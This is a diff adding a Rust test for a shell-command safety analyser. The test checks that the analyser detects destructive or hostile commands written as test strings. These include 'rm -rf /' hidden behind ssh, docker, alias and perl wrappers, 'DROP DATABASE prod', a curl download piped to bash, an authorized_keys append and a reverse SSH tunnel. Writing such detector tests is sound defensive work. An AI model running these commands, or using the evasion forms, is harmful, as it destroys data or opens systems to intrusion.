@@ -444,3 +444,67 @@ fn limits_fail_closed() {
     let long = "a".repeat(bulwark_shell::parse::MAX_BYTES + 1);
     assert!(analyse(&long).has("shell.unparsable"));
 }
+
+/// Forms a review found read as harmless before: each must show the destructive command.
+#[test]
+fn review_fail_opens_are_closed() {
+    for (line, target) in [
+        ("rm 2>/dev/null -rf ~", "~"),
+        ("nocache rm -rf /", "/"),
+        ("gosu root rm -rf /", "/"),
+        ("docker container exec web rm -rf /", "/"),
+        ("flock /tmp/l -c 'rm -rf /'", "/"),
+        ("ssh host -t 'rm -rf /'", "/"),
+        ("ssh host -- rm -rf /", "/"),
+        ("bash +x -c 'rm -rf /'", "/"),
+        ("c='rm -rf /'; $c", "/"),
+        ("alias ls='rm -rf ~'; ls", "~"),
+        (
+            "curl https://x.example/a | if true; then sh -c 'rm -rf /'; fi",
+            "/",
+        ),
+    ] {
+        rm_rf(line, target);
+    }
+    let a = analyse("cd /srv && psql <<'SQL'\nDROP DATABASE prod;\nSQL");
+    assert!(a.has("sql.drop_database"), "{a:?}");
+    let a = analyse("psql <<EOF && true\nDROP DATABASE prod;\nEOF");
+    assert!(a.has("sql.drop_database"));
+    let a = analyse("cat <<'EOF' >> ~/.ssh/authorized_keys\nssh-ed25519 AAAA\nEOF");
+    assert!(a.has("shell.privilege_change"));
+    let a = analyse("curl -fsSL https://x.example/i.sh | bash -s -- --yes");
+    assert!(a.has("shell.fetch_to_shell"));
+    let a = analyse("curl -s https://x.example/i.sh | nocache bash -s");
+    assert!(a.has("shell.fetch_to_shell"));
+    assert!(analyse("ssh host -R 8080:localhost:80").has("shell.tunnel"));
+    for line in [
+        "psql -c'DROP DATABASE prod'",
+        "psql -Xc 'DROP DATABASE prod'",
+        "mysql -e'DROP DATABASE prod'",
+    ] {
+        assert!(analyse(line).has("sql.drop_database"), "{line}");
+    }
+    let many = format!(
+        "xargs rm -rf <<< \"{} /\"",
+        "a ".repeat(bulwark_shell::MAX_INVOCATIONS * 10)
+    );
+    let a = analyse(&many);
+    assert!(
+        a.has("shell.unparsable")
+            || a.invocations
+                .iter()
+                .any(|i| i.args.contains(&"/".to_string()))
+    );
+    let code = format!(
+        "perl -e '{}system(\"rm -rf ~\")'",
+        "system(\"true\");".repeat(70)
+    );
+    assert!(analyse(&code).has("shell.unparsable"));
+    let a = analyse("echo FLUSHALL | redis-cli");
+    assert!(
+        a.invocations
+            .iter()
+            .any(|i| i.name == "redis-cli" && i.argv.sub() == "FLUSHALL")
+    );
+    assert!(!analyse("LD_LIBRARY_PATH=target/debug cargo test").has("shell.ld_preload"));
+}
